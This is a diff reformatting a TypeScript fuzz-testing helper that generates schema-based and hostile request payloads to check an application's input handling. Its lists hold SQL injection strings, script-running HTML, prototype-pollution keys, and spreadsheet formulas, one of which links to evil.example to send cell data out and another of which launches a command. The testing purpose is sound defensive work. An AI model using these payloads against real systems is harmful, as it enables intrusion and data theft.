@@ -11,10 +11,21 @@ import { z } from 'zod';
  * point here, and a 429 would hide what lies behind it); the SLA sweep slowed so it never
  * writes between a test's two row counts.
  */
-export const FUZZ_ENV = { LEEWAY_RATE_LIMIT: '0', LEEWAY_INGEST_RATE_LIMIT: '0', LEEWAY_SOCKET_RATE_LIMIT: '0', LEEWAY_SLA_SWEEP_MS: '60000' };
+export const FUZZ_ENV = {
+  LEEWAY_RATE_LIMIT: '0',
+  LEEWAY_INGEST_RATE_LIMIT: '0',
+  LEEWAY_SOCKET_RATE_LIMIT: '0',
+  LEEWAY_SLA_SWEEP_MS: '60000',
+};
 
 /** SQL an attacker pastes into any text field: must be stored and shown as text. */
-export const SQL_INJECTION = ["'; DROP TABLE customers;--", '" OR 1=1 --', "1' OR '1'='1", "'); DELETE FROM users WHERE ('1'='1", 'x\\\'; DROP TABLE resolution_log; --'];
+export const SQL_INJECTION = [
+  "'; DROP TABLE customers;--",
+  '" OR 1=1 --',
+  "1' OR '1'='1",
+  "'); DELETE FROM users WHERE ('1'='1",
+  "x\\'; DROP TABLE resolution_log; --",
+];
 /** Markup and script that must never run where the text is shown. */
 export const HTML_INJECTION = [
   '<img src=x onerror=alert(1)>',
@@ -25,7 +36,7 @@ export const HTML_INJECTION = [
   '<iframe srcdoc="<script>parent.alert(1)</script>">',
 ];
 /** Spreadsheet formulas: a CSV export must not hand them to Excel as formulas. */
-export const CSV_INJECTION = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
+export const CSV_INJECTION = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
 /** Text that trips naive code: lone surrogates, bidi overrides, zero-width, NUL, emoji sequences, combining marks. */
 export const UNICODE_EDGE = [
   '\ud800',
@@ -111,9 +122,13 @@ function stringArb(js: Js): fc.Arbitrary<string> {
     case 'email':
       return fc.constantFrom(...EMAILS);
     case 'date-time':
-      return fc.date({ min: new Date('2024-01-01T00:00:00Z'), max: new Date('2027-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString());
+      return fc
+        .date({ min: new Date('2024-01-01T00:00:00Z'), max: new Date('2027-12-31T00:00:00Z'), noInvalidDate: true })
+        .map((d) => d.toISOString());
     case 'date':
-      return fc.date({ min: new Date('2024-01-01T00:00:00Z'), max: new Date('2027-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
+      return fc
+        .date({ min: new Date('2024-01-01T00:00:00Z'), max: new Date('2027-12-31T00:00:00Z'), noInvalidDate: true })
+        .map((d) => d.toISOString().slice(0, 10));
     case 'uuid':
       return fc.uuid();
     case 'uri':
@@ -131,19 +146,35 @@ function stringArb(js: Js): fc.Arbitrary<string> {
 }
 
 function numberArb(js: Js, integer: boolean): fc.Arbitrary<number> {
-  const lo = Math.max((js.minimum as number | undefined) ?? (js.exclusiveMinimum !== undefined ? (js.exclusiveMinimum as number) + (integer ? 1 : 0.5) : -1000), -1e9);
-  const hi = Math.min((js.maximum as number | undefined) ?? (js.exclusiveMaximum !== undefined ? (js.exclusiveMaximum as number) - 1 : 1000), Math.max(lo, 1e9));
-  return integer ? fc.integer({ min: Math.ceil(lo), max: Math.floor(hi) }) : fc.double({ min: lo, max: hi, noNaN: true, noDefaultInfinity: true });
+  const lo = Math.max(
+    (js.minimum as number | undefined) ??
+      (js.exclusiveMinimum !== undefined ? (js.exclusiveMinimum as number) + (integer ? 1 : 0.5) : -1000),
+    -1e9,
+  );
+  const hi = Math.min(
+    (js.maximum as number | undefined) ?? (js.exclusiveMaximum !== undefined ? (js.exclusiveMaximum as number) - 1 : 1000),
+    Math.max(lo, 1e9),
+  );
+  return integer
+    ? fc.integer({ min: Math.ceil(lo), max: Math.floor(hi) })
+    : fc.double({ min: lo, max: hi, noNaN: true, noDefaultInfinity: true });
 }
 
 function fromJsonSchema(js: Js, root: Js): fc.Arbitrary<unknown> {
   if (typeof js.$ref === 'string') {
-    const target = js.$ref === '#' ? root : (js.$ref.replace(/^#\//, '').split('/').reduce<unknown>((o, k) => (o as Js)[k], root) as Js);
+    const target =
+      js.$ref === '#'
+        ? root
+        : (js.$ref
+            .replace(/^#\//, '')
+            .split('/')
+            .reduce<unknown>((o, k) => (o as Js)[k], root) as Js);
     return fc.constant(null).chain(() => fromJsonSchema(target, root));
   }
   if ('const' in js) return fc.constant(js.const);
   if (Array.isArray(js.enum)) return fc.constantFrom(...(js.enum as unknown[]));
-  for (const key of ['anyOf', 'oneOf'] as const) if (Array.isArray(js[key])) return fc.oneof(...(js[key] as Js[]).map((s) => fromJsonSchema(s, root)));
+  for (const key of ['anyOf', 'oneOf'] as const)
+    if (Array.isArray(js[key])) return fc.oneof(...(js[key] as Js[]).map((s) => fromJsonSchema(s, root)));
   if (Array.isArray(js.allOf)) return fromJsonSchema(Object.assign({}, ...(js.allOf as Js[])), root);
   const type = Array.isArray(js.type) ? js.type[0] : js.type;
   switch (type) {
@@ -165,10 +196,14 @@ function fromJsonSchema(js: Js, root: Js): fc.Arbitrary<unknown> {
     case 'object': {
       const props = (js.properties ?? {}) as Record<string, Js>;
       const required = (js.required ?? []) as string[];
-      const record = fc.record(Object.fromEntries(Object.entries(props).map(([k, s]) => [k, fromJsonSchema(s, root)])), { requiredKeys: required });
+      const record = fc.record(Object.fromEntries(Object.entries(props).map(([k, s]) => [k, fromJsonSchema(s, root)])), {
+        requiredKeys: required,
+      });
       const extra = js.additionalProperties;
       if (extra && typeof extra === 'object' && Object.keys(props).length === 0) {
-        const names = js.propertyNames ? (fromJsonSchema(js.propertyNames as Js, root) as fc.Arbitrary<string>) : fc.string({ minLength: 1, maxLength: 12 });
+        const names = js.propertyNames
+          ? (fromJsonSchema(js.propertyNames as Js, root) as fc.Arbitrary<string>)
+          : fc.string({ minLength: 1, maxLength: 12 });
         return fc.dictionary(names, fromJsonSchema(extra as Js, root), { maxKeys: 3 });
       }
       return record;
@@ -241,7 +276,19 @@ export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
 );
 
 /** Keys that must be refused or ignored, never obeyed. */
-const UNKNOWN_KEYS = ['__proto__', 'constructor', 'prototype', 'tenantId', 'role', 'id', 'isAdmin', '$where', 'x'.repeat(300), '\u0000', ''];
+const UNKNOWN_KEYS = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'tenantId',
+  'role',
+  'id',
+  'isAdmin',
+  '$where',
+  'x'.repeat(300),
+  '\u0000',
+  '',
+];
 
 /** The example broken one way: a value swapped for a wrong one, a field dropped, an unknown key added. */
 export function mutationsOf(example: unknown): fc.Arbitrary<unknown> {
@@ -251,23 +298,29 @@ export function mutationsOf(example: unknown): fc.Arbitrary<unknown> {
     return v !== null && typeof v === 'object' && !Array.isArray(v);
   });
   const swap = fc.tuple(fc.constantFrom(...paths), wrongValue).map(([p, v]) => setAt(example, p, v));
-  const drop = fc.constantFrom(...paths.filter((p) => p.length > 0), ...(paths.length === 1 ? [[] as Path] : [])).map((p) => deleteAt(example, p) ?? {});
+  const drop = fc
+    .constantFrom(...paths.filter((p) => p.length > 0), ...(paths.length === 1 ? [[] as Path] : []))
+    .map((p) => deleteAt(example, p) ?? {});
   const arms: fc.Arbitrary<unknown>[] = [swap, drop];
   if (objects.length) {
-    arms.push(fc.tuple(fc.constantFrom(...objects), fc.constantFrom(...UNKNOWN_KEYS), wrongValue).map(([p, k, v]) => {
-      const copy = clone(example);
-      const target = p.reduce<unknown>((o, key) => (o as Record<string | number, unknown>)[key], copy) as Record<string, unknown>;
-      // defineProperty, so "__proto__" becomes an own key that JSON.stringify sends, not a prototype change here.
-      Object.defineProperty(target, k, { value: v, enumerable: true, configurable: true, writable: true });
-      return copy;
-    }));
+    arms.push(
+      fc.tuple(fc.constantFrom(...objects), fc.constantFrom(...UNKNOWN_KEYS), wrongValue).map(([p, k, v]) => {
+        const copy = clone(example);
+        const target = p.reduce<unknown>((o, key) => (o as Record<string | number, unknown>)[key], copy) as Record<string, unknown>;
+        // defineProperty, so "__proto__" becomes an own key that JSON.stringify sends, not a prototype change here.
+        Object.defineProperty(target, k, { value: v, enumerable: true, configurable: true, writable: true });
+        return copy;
+      }),
+    );
   }
   return fc.oneof(...arms);
 }
 
 /** The example with one of its text values swapped for a hostile string: often still valid, so it reaches the handler. */
 export function hostileTextIn(example: unknown): fc.Arbitrary<unknown> {
-  const texts = pathsOf(example).filter((p) => typeof p.reduce<unknown>((o, k) => (o as Record<string | number, unknown>)[k], example) === 'string');
+  const texts = pathsOf(example).filter(
+    (p) => typeof p.reduce<unknown>((o, k) => (o as Record<string | number, unknown>)[k], example) === 'string',
+  );
   if (!texts.length) return mutationsOf(example);
   return fc.tuple(fc.constantFrom(...texts), fc.constantFrom(...HOSTILE_STRINGS)).map(([p, v]) => setAt(example, p, v));
 }
@@ -302,7 +355,12 @@ export function hostilePayloads(example: unknown, schema?: z.ZodType): fc.Arbitr
   return fc.oneof(
     { weight: 4, arbitrary: mutationsOf(example) },
     { weight: 2, arbitrary: hostileTextIn(example) },
-    ...(schema ? [{ weight: 1, arbitrary: shapedLike(schema) }, { weight: 2, arbitrary: shapedAround(example, schema) }] : []),
+    ...(schema
+      ? [
+          { weight: 1, arbitrary: shapedLike(schema) },
+          { weight: 2, arbitrary: shapedAround(example, schema) },
+        ]
+      : []),
     { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
     { weight: 1, arbitrary: fc.constantFrom<unknown>(...HOSTILE_STRINGS, null, [], 0) },
   );
